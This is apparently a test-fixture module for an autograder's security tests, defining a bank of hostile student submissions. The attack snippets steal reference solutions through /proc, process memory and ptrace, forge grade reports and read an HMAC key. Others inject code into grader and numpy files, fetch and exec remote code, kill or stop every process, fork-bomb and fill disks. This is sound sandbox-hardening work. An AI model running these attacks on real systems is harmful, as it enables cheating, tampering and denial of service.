"""恶意提交库 / The bank of hostile a2 submissions (used by ``test_hostile_bank.py``).

Each :class:`Attack` is built on the untouched release (a blank submission: every honest score
is 0) or on the reference (full marks), plus attack code in ``_attack.py`` whose ``run(g)`` is
called at the end of every module of the submission (``layers.py``, ``losses.py``, ...) with
that module's globals — i.e. in every sandbox, before any grading call.  ``build`` adds files
to the folder (the honest-but-awkward submissions).  ``expect`` is the attacker's exact total:
``"blank"`` = 0, ``"reference"`` = the reference's total.

A cheating attack that succeeded would turn a blank submission into full marks (it execs the
stolen reference module into its own module); a state-leak attack on the reference sabotages
itself when it sees state from an earlier task; a disruptive attack would change the
neighbours' rows, hang or abort the batch, or leave processes and files behind.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MODULES = ("activations", "layers", "losses", "mlp", "optim", "gradcheck", "exercise")

PRELUDE = r'''
import glob
import os
import signal
import sys
import time

import numpy as np

TOKEN = os.urandom(8).hex()


def steal(g, folder):
    """exec the reference module of the same name found in ``folder`` into ``g``."""
    path = os.path.join(folder, g["__name__"] + ".py")
    try:
        with open(path, encoding="utf-8") as fh:
            code = fh.read()
        if "_nnkit_attack" in code or "raise NotImplementedError" in code.split("def ", 2)[-1]:
            return False  # an attacker's own module, or a blank release
        sys.path.insert(0, folder)  # the stolen module's own imports
        exec(compile(code, path, "exec"), g)
        return True
    except BaseException:
        return False


def candidates(paths):
    """Folders worth trying for solutions: each path, its parents, and solutions/a2 below."""
    out = []
    for p in paths:
        p = os.path.abspath(p)
        while p not in ("", "/"):
            out += [p, os.path.join(p, "solutions", "a2"), os.path.join(p, "a2")]
            p = os.path.dirname(p)
    return list(dict.fromkeys(out))


def host_paths():
    """Absolute paths named anywhere this process can read: cmdlines, environments, mounts."""
    words = set()
    for pid in os.listdir("/proc"):
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            for w in data.replace(b"=", b"\0").split(b"\0"):
                if w.startswith(b"/"):
                    words.add(w.decode(errors="replace"))
    try:
        with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as fh:
            for line in fh:
                parts = line.split()
                words.update(p for p in parts[3:5] if p.startswith("/"))
    except OSError:
        pass
    return sorted(words)


def run_all_tasks_as(g, fn):
    """Replace every public function of the module by ``fn``."""
    for k, v in list(g.items()):
        if callable(v) and not k.startswith("_") and getattr(v, "__module__", "") == g["__name__"]:
            g[k] = fn


def signal_all(sig):
    """Send ``sig`` to the parent, pid 1, every pid below 5000 and kill(-1) (not to itself)."""
    for pid in [os.getppid(), 1, *range(2, 5000)]:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.kill(-1, sig)
    except OSError:
        pass


def seen_before(mark):
    """True if ``mark`` holds another process's token (state survived from an earlier task)."""
    try:
        with open(mark) as fh:
            return fh.read() != TOKEN
    except OSError:
        try:
            with open(mark, "w") as fh:
                fh.write(TOKEN)
        except OSError:
            pass
        return False


def sabotage(g):
    """What a state-leak attack does when it sees state from an earlier task."""
    def broken(*a, **k):
        raise RuntimeError("state from an earlier task was visible")
    run_all_tasks_as(g, broken)


def rerun(module):
    """Test helper: run this attack again on ``module`` as a later task with a new token
    would, in the SAME process and sandbox (where the state did survive); True if it
    sabotaged the module."""
    global TOKEN
    TOKEN = os.urandom(8).hex()
    for name in [m for m in sys.modules if m.startswith("_nnkit_memo_")]:
        del sys.modules[name]
    g = vars(sys.modules[module])
    run(g)
    return any(getattr(v, "__name__", "") == "broken" for v in g.values())
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission: its class, base, attack code and exact expected total."""

    name: str
    klass: str
    base: str  # "release" | "reference"
    code: str = "def run(g):\n    pass\n"
    build: Callable[[Path], None] | None = None
    expect: str = "blank"
    #: a state-leak attack: re-run in the same process with a new token, it must sabotage
    #: (``test_state_attacks_can_fail``), so its "contained" result means something
    leak: bool = False


def _sparse(folder: Path) -> None:
    with open(folder / "weights.bin", "wb") as fh:
        fh.truncate(40 << 30)  # 40 GiB, no blocks


def _many_files(folder: Path) -> None:
    for i in range(200_000):
        os.close(os.open(folder / f"empty{i:06d}.txt", os.O_CREAT | os.O_WRONLY, 0o644))


def _deep(folder: Path) -> None:
    fd = os.open(folder, os.O_RDONLY)
    try:
        for _ in range(1100):
            os.mkdir("d", dir_fd=fd)
            new = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
        os.close(os.open("notes.py", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
    finally:
        os.close(fd)


def _non_utf8(folder: Path) -> None:
    base = os.fsencode(folder)
    with open(base + b"/\xff\xfe_notes.py", "wb") as fh:
        fh.write(b"x = 1\n")
    os.mkdir(base + b"/\xff\x80dir")
    with open(base + b"/\xff\x80dir/\xc3\x28.txt", "wb") as fh:
        fh.write(b"\xff")


def _symlinked_files(folder: Path) -> None:
    solutions = Path(__file__).resolve().parents[2] / "solutions" / "a2"
    for m in ("layers", "losses", "mlp"):
        (folder / f"{m}.py").unlink()
        (folder / f"{m}.py").symlink_to(solutions / f"{m}.py")


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "pipe.py")


ATTACKS: list[Attack] = [
    # --- reading the solutions ------------------------------------------------------------
    Attack(
        "proc_cwd",
        "repo via /proc/<pid>/cwd and /root",
        "release",
        """
def run(g):
    for pid in os.listdir("/proc"):
        for link in ("cwd", "root"):
            base = f"/proc/{pid}/{link}"
            for sub in ("solutions/a2", "../solutions/a2", "work/main/solutions/a2"):
                if steal(g, os.path.join(base, sub)):
                    return
""",
    ),
    Attack(
        "disk_search",
        "search the disk for solutions/",
        "release",
        """
def run(g):
    if g["__name__"] != "layers":
        return
    end = time.monotonic() + 3
    for top in ("/work", "/home", "/root", "/srv", "/opt", "/tmp", "/"):
        for root, dirs, files in os.walk(top):
            if time.monotonic() > end or root.startswith(("/proc", "/sys")):
                dirs[:] = []
                continue
            if g["__name__"] + ".py" in files and steal(g, root):
                return
""",
    ),
    Attack(
        "computed_import",
        "import nncore under a computed name",
        "release",
        """
def run(g):
    import importlib
    for sub in ("", ".layers", ".losses", ".mlp", ".optim", ".activations", ".gradcheck"):
        try:
            m = importlib.import_module("".join(["n", "n", "c", "o", "r", "e"]) + sub)
        except BaseException:
            continue
        for k in list(g):
            if hasattr(m, k) and callable(g[k]):
                g[k] = getattr(m, k)
""",
    ),
    Attack(
        "bypass_import_hook",
        "remove the import hook, put candidate repo paths on sys.path",
        "release",
        """
def run(g):
    import importlib
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    sys.path += candidates(host_paths()) + ["/work/main", "/work/i8", "/root", "/opt", "/srv"]
    sys.path += glob.glob("/work/*") + glob.glob("/home/*/*")
    for name in ("nncore", "grader"):
        try:
            importlib.import_module(name)
        except BaseException:
            continue
        g["LEAKED"] = name
        for folder in candidates([os.path.dirname(sys.modules[name].__file__)]):
            if steal(g, folder):
                return
""",
    ),
    Attack(
        "classmate_relative",
        "copy a classmate through relative paths",
        "release",
        """
def run(g):
    for pattern in ("../*", "../../*", "../../../*", "/nnkit/*", "/*/*", "/tmp/*/*"):
        for folder in glob.glob(pattern):
            if os.path.realpath(folder) != os.getcwd() and steal(g, folder):
                return
""",
    ),
    Attack(
        "classmate_mountinfo",
        "copy a classmate via host paths leaked in /proc/self/mountinfo",
        "release",
        """
def run(g):
    for folder in candidates(host_paths()):
        for sibling in glob.glob(os.path.join(folder, "*")) + [folder]:
            if os.path.isdir(sibling) and steal(g, sibling):
                return
""",
    ),
    Attack(
        "grader_cmdline_env",
        "read the grader's command line and environment",
        "release",
        """
def run(g):
    for pid in ["1", str(os.getppid()), "self"]:
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            for w in data.replace(b"=", b"\\0").split(b"\\0"):
                if w.startswith(b"/"):
                    for folder in candidates([w.decode(errors="replace")]):
                        if steal(g, folder):
                            return
""",
    ),
    Attack(
        "grader_memory",
        "read the grader's memory through /proc/<pid>/mem",
        "release",
        """
def run(g):
    needle = ("def " + "dense_forward").encode()
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        with mem:
            for line in maps:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    mem.seek(lo)
                    chunk = mem.read(min(hi - lo, 1 << 24))
                except (OSError, ValueError, OverflowError):
                    continue
                at = chunk.find(needle)
                if at >= 0:
                    g["LEAKED"] = chunk[at : at + 4000]
                    try:
                        exec(g["LEAKED"].split(b"\\0")[0].decode(errors="ignore"), g)
                    except BaseException:
                        pass
""",
    ),
    Attack(
        "ptrace",
        "ptrace-attach to every other process",
        "release",
        """
def run(g):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            if libc.ptrace(16, int(pid), 0, 0) == 0:  # PTRACE_ATTACH
                g["LEAKED"] = pid
""",
    ),
    Attack(
        "read_key",
        "read the batch's HMAC key and forge a signed report",
        "release",
        """
def run(g):
    for folder in candidates(host_paths()):
        for key in glob.glob(os.path.join(folder, "*", ".nnkit-key")) + [
            os.path.join(folder, ".nnkit-key")
        ]:
            try:
                g["LEAKED"] = open(key, "rb").read()
            except OSError:
                pass
""",
    ),
    Attack(
        "network",
        "fetch the solutions over the network",
        "release",
        """
def run(g):
    import socket
    import urllib.request
    for url in ("http://1.1.1.1/solutions/a2/", "http://127.0.0.1:8888/"):
        try:
            code = urllib.request.urlopen(url, timeout=1).read().decode()
            exec(code, g)
        except BaseException:
            pass
    try:
        socket.create_connection(("8.8.8.8", 53), timeout=1)
        g["LEAKED"] = "net"
    except OSError:
        pass
""",
    ),
    # --- state across tasks -----------------------------------------------------------------
    Attack(
        "tmp_state",
        "keep state across tasks in /tmp",
        "reference",
        """
def run(g):
    if seen_before("/tmp/nnkit-bank-state"):
        sabotage(g)
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "shm_state",
        "keep state across tasks in /dev/shm",
        "reference",
        """
def run(g):
    if seen_before("/dev/shm/nnkit-bank-state"):
        sabotage(g)
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "cwd_state",
        "keep state across tasks in the working folder and HOME",
        "reference",
        """
def run(g):
    for mark in ("nnkit-bank-state", os.path.expanduser("~/.nnkit-bank-state")):
        if seen_before(mark):
            sabotage(g)
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "socket_state",
        "keep state across tasks in a daemon behind an abstract unix socket",
        "reference",
        """
def run(g):
    import socket
    name = "\\0nnkit-bank-state"
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(name)
        if s.recv(64).decode() != TOKEN:
            sabotage(g)
        return
    except OSError:
        pass
    if os.fork() == 0:
        os.setsid()
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            srv.bind(name)
            srv.listen(8)
            while True:
                c, _ = srv.accept()
                c.sendall(TOKEN.encode())
                c.close()
        finally:
            os._exit(0)
""",
        expect="reference",
        leak=True,
    ),
    # --- state across tasks in one per-submission sandbox (zygote forks) ----------------------
    Attack(
        "python_state",
        "module globals, builtins, sys.modules, os.environ and numpy attributes across tasks",
        "reference",
        """
def run(g):
    import builtins
    marks = [
        getattr(builtins, "_nnkit_bank", TOKEN),
        getattr(np, "_nnkit_bank", TOKEN),
        getattr(sys.modules.get("_nnkit_bank_state"), "token", TOKEN),
        os.environ.get("NNKIT_BANK", TOKEN),
        getattr(sys, "_nnkit_bank", TOKEN),
    ]
    if any(m != TOKEN for m in marks):
        sabotage(g)
    builtins._nnkit_bank = np._nnkit_bank = sys._nnkit_bank = TOKEN
    os.environ["NNKIT_BANK"] = TOKEN
    state = type(sys)("_nnkit_bank_state")
    state.token = TOKEN
    sys.modules["_nnkit_bank_state"] = state
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "monkeypatch_numpy_builtins",
        "monkeypatch numpy and builtins; a later task that sees the patch sabotages itself",
        "reference",
        """
def run(g):
    import builtins
    for f in (np.exp, np.dot, np.allclose, builtins.len, builtins.print):
        if getattr(f, "_nnkit_bank", TOKEN) != TOKEN:
            sabotage(g)
    def tag(f):
        def patched(*a, **k):
            return f(*a, **k)
        patched._nnkit_bank = TOKEN
        return patched
    if getattr(np.exp, "_nnkit_bank", None) != TOKEN:
        np.exp, np.dot, np.allclose = tag(np.exp), tag(np.dot), tag(np.allclose)
        builtins.len, builtins.print = tag(builtins.len), tag(builtins.print)
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "tmp_tree_state",
        "a 300-deep tree with unreadable folders and files in /tmp and /dev/shm",
        "reference",
        """
def run(g):
    for top in ("/tmp", "/dev/shm"):
        if glob.glob(top + "/nnkit-tree-*") and not os.path.exists(f"{top}/nnkit-tree-{TOKEN}"):
            sabotage(g)
        base = f"{top}/nnkit-tree-{TOKEN}"
        if os.path.exists(base):
            continue
        try:
            os.makedirs(base + "/d" * 300)
            with open(base + "/d" * 300 + "/mark", "w") as fh:
                fh.write(TOKEN)
            os.chmod(base + "/d" * 300 + "/mark", 0)
            os.chmod(base + "/d" * 150, 0)
        except OSError:
            pass
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "mqueue_state",
        "a POSIX message queue that outlives the task",
        "reference",
        """
def run(g):
    import ctypes
    import errno
    memo = sys.modules.setdefault("_nnkit_memo_mq", type(sys)("_nnkit_memo_mq"))
    if getattr(memo, "mine", False):
        return
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mq_open.restype = ctypes.c_int
    fd = libc.mq_open(b"/nnkit-bank-state", os.O_CREAT | os.O_EXCL | os.O_RDWR,
                      ctypes.c_int(0o666), None)
    if fd < 0 and ctypes.get_errno() == errno.EEXIST:
        sabotage(g)
    memo.mine = True
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "sysv_state",
        "SysV shared memory, a semaphore set and a message queue that outlive the task",
        "reference",
        """
def run(g):
    import ctypes
    import errno
    memo = sys.modules.setdefault("_nnkit_memo_sysv", type(sys)("_nnkit_memo_sysv"))
    if getattr(memo, "mine", False):
        return
    libc = ctypes.CDLL(None, use_errno=True)
    create = 0o1000 | 0o2000 | 0o666  # IPC_CREAT | IPC_EXCL | rw
    for fn, args in ((libc.shmget, (0x6E6E6B01, 4096)), (libc.semget, (0x6E6E6B02, 1)),
                     (libc.msgget, (0x6E6E6B03,))):
        if fn(*args, create) < 0 and ctypes.get_errno() == errno.EEXIST:
            sabotage(g)
    memo.mine = True
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "surviving_child_thread",
        "a setsid grandchild and a thread that keep running and writing marks after the task",
        "reference",
        """
def run(g):
    import threading
    me = os.getuid()
    for pid in os.listdir("/proc"):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid if pid.isdigit() else me
        except OSError:
            continue
        if uid not in (0, me):
            sabotage(g)  # a process of an earlier task is still alive
    for top in ("/tmp", "/dev/shm"):
        for mark in glob.glob(top + "/nnkit-alive-*"):
            if not mark.endswith(TOKEN):
                sabotage(g)
    memo = sys.modules.setdefault("_nnkit_memo_alive", type(sys)("_nnkit_memo_alive"))
    if getattr(memo, "started", False):
        return
    memo.started = True

    def beat(top):
        while True:
            try:
                with open(f"{top}/nnkit-alive-{TOKEN}", "w") as fh:
                    fh.write(TOKEN)
            except OSError:
                pass
            time.sleep(0.01)
    threading.Thread(target=beat, args=("/tmp",), daemon=True).start()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            beat("/dev/shm")
        os._exit(0)
""",
        expect="reference",
        leak=True,
    ),
    Attack(
        "tamper_zygote",
        "ptrace, /proc/<pid>/mem, signals, prlimit and renice against the zygote and init",
        "reference",
        """
def run(g):
    import ctypes
    import resource
    libc = ctypes.CDLL(None, use_errno=True)
    me = os.getuid()
    won = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid == me:
                continue  # this task's own processes
        except OSError:
            continue
        p = int(pid)
        if libc.ptrace(16, p, 0, 0) == 0:  # PTRACE_ATTACH
            won.append(("ptrace", p))
        try:
            with open(f"/proc/{pid}/mem", "r+b") as fh:
                won.append(("mem", p))
        except OSError:
            pass
        for sig in (0, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(p, sig)
                won.append(("kill", p))
            except OSError:
                pass
        try:
            resource.prlimit(p, resource.RLIMIT_AS, (1 << 20, 1 << 20))
            won.append(("prlimit", p))
        except OSError:
            pass
        try:
            os.setpriority(os.PRIO_PROCESS, p, 19)
            won.append(("renice", p))
        except OSError:
            pass
    if won:
        g["LEAKED"] = won
        sabotage(g)
""",
        expect="reference",
    ),
    Attack(
        "keyring_state",
        "a key in the inherited session keyring, read back by a later task",
        "reference",
        """
def run(g):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    SESSION = ctypes.c_long(-3)  # KEY_SPEC_SESSION_KEYRING
    memo = sys.modules.setdefault("_nnkit_memo_key", type(sys)("_nnkit_memo_key"))
    if getattr(memo, "mine", False):
        return
    import platform
    add_key, keyctl = {"aarch64": (217, 219)}.get(platform.machine(), (248, 250))
    # keyctl(KEYCTL_SEARCH, session keyring, "user", description, 0)
    found = libc.syscall(keyctl, 10, SESSION, b"user", b"nnkit-bank-state", 0)
    if found >= 0:
        sabotage(g)
    libc.syscall(add_key, b"user", b"nnkit-bank-state", TOKEN.encode(), 16, SESSION)
    memo.mine = True
""",
        expect="reference",
        leak=True,
    ),
    # --- attacking the grader and the batch --------------------------------------------------
    Attack(
        "kill_everything",
        "SIGKILL the grader, every visible process and every pid up to 5000",
        "release",
        """
def run(g):
    signal_all(signal.SIGKILL)
""",
    ),
    Attack(
        "stop_everything",
        "SIGSTOP the grader and every visible process",
        "release",
        """
def run(g):
    signal_all(signal.SIGSTOP)
""",
    ),
    Attack(
        "forge_report",
        "write a forged report.json / grades.csv wherever it can",
        "release",
        """
def run(g):
    import json
    fake = {"student": "m_forge_report", "assignment": "a2", "total": 13, "max_total": 13}
    for folder in candidates(host_paths()) + [".", "/tmp", os.path.expanduser("~")]:
        for target in (
            os.path.join(folder, "report.json"),
            os.path.join(folder, "m_forge_report", "report.json"),
            os.path.join(folder, "grades.csv"),
        ):
            try:
                with open(target, "w") as fh:
                    json.dump(fake, fh)
            except OSError:
                pass
""",
    ),
    Attack(
        "setsid_survivor",
        "a setsid daemon that outlives the task and rewrites grades.csv later",
        "release",
        """
def run(g):
    if g["__name__"] != "layers":
        return
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            time.sleep(3)
            for folder in candidates(host_paths()):
                for t in (os.path.join(folder, "grades.csv"), os.path.join(folder, "out/grades.csv")):
                    try:
                        with open(t, "w") as fh:
                            fh.write("student,total\\nm_setsid_survivor,13\\n")
                    except OSError:
                        pass
            time.sleep(1000)
        os._exit(0)
""",
    ),
    Attack(
        "write_grader",
        "append code to grader/__init__.py and numpy/__init__.py",
        "release",
        """
def run(g):
    import numpy
    targets = [numpy.__file__]
    for folder in candidates(host_paths()) + ["/work/main", "/work/i8"]:
        targets += [os.path.join(folder, "grader", "__init__.py"),
                    os.path.join(folder, "nncore", "__init__.py")]
    for t in targets:
        try:
            with open(t, "a") as fh:
                fh.write("\\nimport os; os.system('touch /tmp/pwned')\\n")
        except OSError:
            pass
""",
    ),
    Attack(
        "patch_numpy_for_neighbours",
        "replace numpy in the shared site folder so that neighbours fail",
        "release",
        """
def run(g):
    import numpy
    folder = os.path.dirname(numpy.__file__)
    for name in ("__init__.py", "linalg/__init__.py"):
        try:
            with open(os.path.join(folder, name), "w") as fh:
                fh.write("raise ImportError('sabotaged')\\n")
        except OSError:
            pass
""",
    ),
    # --- resources ----------------------------------------------------------------------------
    Attack(
        "fork_bomb",
        "fork until it fails; children sleep forever",
        "release",
        """
def run(g):
    for _ in range(10000):
        try:
            if os.fork() == 0:
                time.sleep(1000)
                os._exit(0)
        except OSError:
            break
""",
    ),
    Attack(
        "busy_children",
        "60 busy children",
        "release",
        """
def run(g):
    if g["__name__"] != "layers":
        return
    for _ in range(60):
        try:
            if os.fork() == 0:
                while True:
                    pass
        except OSError:
            break
""",
    ),
    Attack(
        "memory_children",
        "5 children x 300 MB each",
        "release",
        """
def run(g):
    if g["__name__"] != "layers":
        return
    kids = []
    for _ in range(5):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                block = np.ones(37_500_000)  # 300 MB, touched
                time.sleep(30)
            finally:
                os._exit(0)
        kids.append(pid)
    time.sleep(3)
""",
    ),
    Attack(
        "huge_reply_brackets",
        "replies of 2 million [] (6 MB)",
        "release",
        """
def run(g):
    run_all_tasks_as(g, lambda *a, **k: [[]] * 2_000_000)
""",
    ),
    Attack(
        "many_tiny_arrays",
        "replies of 20,000 tiny arrays",
        "release",
        """
def run(g):
    tiny = np.zeros(1)
    run_all_tasks_as(g, lambda *a, **k: [tiny] * 20_000)
""",
    ),
    Attack(
        "deep_reply",
        "a reply nested 100,000 deep",
        "release",
        """
def run(g):
    def deep(*a, **k):
        x = []
        for _ in range(100_000):
            x = [x]
        return x
    run_all_tasks_as(g, deep)
""",
    ),
    Attack(
        "fill_disk",
        "write 1 GiB to the working folder, /tmp, /dev/shm and HOME",
        "release",
        """
def run(g):
    chunk = b"x" * (1 << 20)
    for path in ("big.bin", "/tmp/big.bin", "/dev/shm/big.bin", os.path.expanduser("~/b.bin")):
        try:
            with open(path, "wb") as fh:
                for _ in range(1024):
                    fh.write(chunk)
        except OSError:
            pass
""",
    ),
    Attack(
        "many_files_tmp",
        "create files in /tmp until something fails (2 s)",
        "release",
        """
def run(g):
    end = time.monotonic() + 2
    i = 0
    while time.monotonic() < end:
        try:
            os.close(os.open(f"/tmp/f{i}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
        i += 1
""",
    ),
    Attack(
        "deep_tree_tmp",
        "make a 1,100-deep folder in /tmp during the task",
        "release",
        """
def run(g):
    fd = os.open("/tmp", os.O_RDONLY)
    try:
        for _ in range(1100):
            os.mkdir("d", dir_fd=fd)
            new = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = new
    except OSError:
        pass
    finally:
        os.close(fd)
""",
    ),
    Attack(
        "exit_at_import",
        "sys.exit(0) when imported",
        "release",
        """
def run(g):
    sys.exit(0)
""",
    ),
    # --- awkward folders (honest code) --------------------------------------------------------
    Attack(
        "sparse_40g_file", "a sparse 40 GiB file", "reference", build=_sparse, expect="reference"
    ),
    Attack(
        "many_files_200k",
        "200,000 empty files next to the modules",
        "reference",
        build=_many_files,
        expect="reference",
    ),
    Attack("deep_1100", "a 1,100-deep folder", "reference", build=_deep, expect="reference"),
    Attack(
        "non_utf8_names",
        "file and folder names that are not UTF-8",
        "reference",
        build=_non_utf8,
        expect="reference",
    ),
    Attack("fifo", "a FIFO named like a module", "reference", build=_fifo, expect="reference"),
    Attack(
        "symlinked_files",
        "modules that are symlinks to the solutions",
        "release",
        build=_symlinked_files,
    ),
]

#: Built separately: a submission folder that is a symlink to a classmate's folder.
SYMLINK_FOLDER = "m_symlinked_folder"
